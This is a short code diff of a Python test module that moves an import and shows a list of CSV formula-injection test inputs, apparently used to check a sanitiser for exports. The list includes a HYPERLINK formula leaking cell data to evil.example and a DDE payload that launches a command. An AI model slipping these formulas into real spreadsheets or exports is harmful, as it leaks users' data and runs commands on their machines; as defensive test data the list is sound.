@@ -12,7 +12,8 @@ from markdown_it import MarkdownIt
 
 from gtm.services import csvsafe, results
 
-from tests.api.test_import_attacks import changed, export_doc, import_
+from tests.kit.exports import changed, import_
+
 
 FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1, "Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1"]
